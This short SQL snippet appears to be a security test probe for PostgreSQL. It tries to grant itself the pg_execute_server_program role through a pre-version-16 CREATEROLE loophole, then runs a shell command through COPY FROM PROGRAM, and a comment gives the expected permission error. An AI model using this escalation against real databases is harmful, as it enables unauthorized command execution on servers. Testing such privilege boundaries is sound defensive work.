-- finds: SQLSTATE 42501|role \"pg_execute_server_program\" does not exist
-- Grants itself the role that may run programs, as CREATEROLE alone allowed before PostgreSQL 16.
GRANT pg_execute_server_program TO postgres;
CREATE TABLE said (line text);
COPY said FROM PROGRAM 'touch /outside/ran';
